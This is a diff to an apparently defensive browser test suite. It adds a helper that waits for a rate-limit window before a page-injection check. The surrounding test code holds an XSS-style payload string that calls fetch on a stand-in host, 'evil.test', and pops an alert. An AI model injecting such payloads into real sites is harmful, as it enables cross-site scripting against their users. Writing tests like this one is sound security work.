@@ -10,6 +10,7 @@ import { startTestServer, type TestServer, type TestUser } from '../apps/server/
 import { startBrowser, watch } from './lib/browser.ts';
 import { fillPath, readOperations, sampleOf } from './lib/openapi.ts';
 import { say, startUpstream, type Upstream } from './lib/upstream.ts';
+import { until } from '../apps/server/src/testing/until.ts';
 
 /** What each would do if it ran: call home, and say so. */
 const act = `top.hit=1,fetch('http://evil.test/hit'),alert(1)`;
@@ -265,6 +266,9 @@ describe('in the browser', () => {
       contentType: 'blog',
       generatedText: 'untouched',
     });
+    // What follows is counted by a limit whose window must not end meanwhile.
+    const secondsLeft = async () => Number((await fetch(`${server.url}/api/health`)).headers.get('ratelimit-reset'));
+    await until(async () => (await secondsLeft()) > 40);
     const before = await state();
     evilPage = '<p>hello</p>';
     await page.goto(evilUrl);
